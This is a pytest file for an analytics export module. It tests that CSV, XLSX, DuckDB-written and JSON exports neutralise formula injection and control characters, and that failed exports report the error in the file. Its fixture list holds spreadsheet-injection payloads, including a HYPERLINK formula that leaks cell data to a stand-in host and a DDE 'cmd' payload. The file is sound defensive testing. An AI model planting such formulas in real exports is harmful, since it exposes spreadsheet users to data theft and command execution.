"""Hostile text in exports stays inert: no spreadsheet formula, no control character, and a
failed export says so in the file instead of failing silently."""

from __future__ import annotations

import io
import json

import duckdb
import openpyxl
import pandas as pd
import pytest

from analytics import export, queries
from connectors.schemas import Field

HOSTILE = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "bell\x07 escape\x1b[31m red",
    "\u202egnp.exe",
]
SAFE = ["plain", "data_platform", "a-b", "é ✓ 数据", "5"]


@pytest.fixture
def hostile() -> pd.DataFrame:
    names = HOSTILE + SAFE
    return pd.DataFrame(
        {
            "space": names,
            "model": pd.Categorical(names),
            "spend_usd": [float(i) - 3 for i in range(len(names))],  # negatives stay numbers
        }
    )


def _starts_like_formula(text: str) -> bool:
    return text.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_csv_cells_never_start_a_formula(hostile):
    back = pd.read_csv(io.BytesIO(export.to_csv(hostile)), dtype={"space": str, "model": str})
    for column in ("space", "model"):
        for written, given in zip(back[column], hostile[column].astype(str)):
            assert not _starts_like_formula(written)
            if _starts_like_formula(given):
                assert written == "'" + given.replace("\x07", "").replace("\x1b", "").replace(
                    "\r", "\n"
                )
    assert (
        "\x07" not in export.to_csv(hostile).decode()
        and "\x1b" not in export.to_csv(hostile).decode()
    )
    assert "\u202e" not in export.to_csv(hostile).decode()
    assert back["space"].tolist()[-5:] == SAFE  # ordinary text is untouched
    assert back["spend_usd"].min() < 0  # numbers, even negative, are not text


def test_xlsx_cells_are_text_with_excels_quote_prefix(hostile):
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx(hostile)))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    space, model, spend = (header.index(n) for n in ("space", "model", "spend_usd"))
    for row, given in zip(sheet.iter_rows(min_row=2), hostile["space"]):
        for column in (space, model):
            cell = row[column]
            assert cell.data_type == "s", (given, cell.data_type)  # never "f" (formula)
            assert "\x1b" not in cell.value and "\x07" not in cell.value
            if _starts_like_formula(given):
                assert cell.quotePrefix, given
        assert isinstance(row[spend].value, int | float)
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    # the value is kept as it was (Excel's prefix is a style, not a character)
    assert sheet.cell(row=2, column=space + 1).value == "=1+1"


def test_json_holds_the_text_as_data(hostile):
    rows = json.loads(export.to_json(hostile))
    assert rows[0]["space"] == "=1+1"  # JSON is not run by anything; kept exactly


def test_excel_export_with_control_characters_does_not_fail():
    # openpyxl refuses these characters: before, the Excel download failed
    frame = pd.DataFrame({"pipeline": ["ok\x00\x01\x02\x0b\x0c\x1f end"]})
    book = openpyxl.load_workbook(io.BytesIO(export.to_xlsx(frame)))
    assert book.active["A2"].value == "ok end"


def test_a_failed_export_says_so_in_the_file(hostile):
    err = ValueError("something broke\nsecond line with data")
    csv = export.failure_file("csv", err, 12).decode()
    assert "Export failed: ValueError: something broke" in csv and "12 rows" in csv
    assert "second line" not in csv
    sheet = openpyxl.load_workbook(io.BytesIO(export.failure_file("xlsx", err, 12))).active
    assert sheet["A2"].value.startswith("Export failed")
    assert json.loads(export.failure_file("json", err, 12))["error"].startswith("Export failed")
    with pytest.raises(ValueError):
        export.failure_file("parquet", err, 12)


def test_raw_csv_written_by_duckdb_neutralises_the_same_way():
    """Explore's raw downloads are written by DuckDB (queries.export_file): the same rule in SQL."""
    expression = queries._as_csv(Field("name", "str", ("name",)), "builder.org_space_metrics")
    con = duckdb.connect()
    for given in HOSTILE + SAFE:
        [(written,)] = con.execute(
            f"SELECT {expression} FROM (SELECT ?::VARCHAR AS name)", [given]
        ).fetchall()
        expected = export._texts(pd.DataFrame({"name": [given]}), export.csv_cell)["name"][0]
        assert written == expected, (given, written, expected)
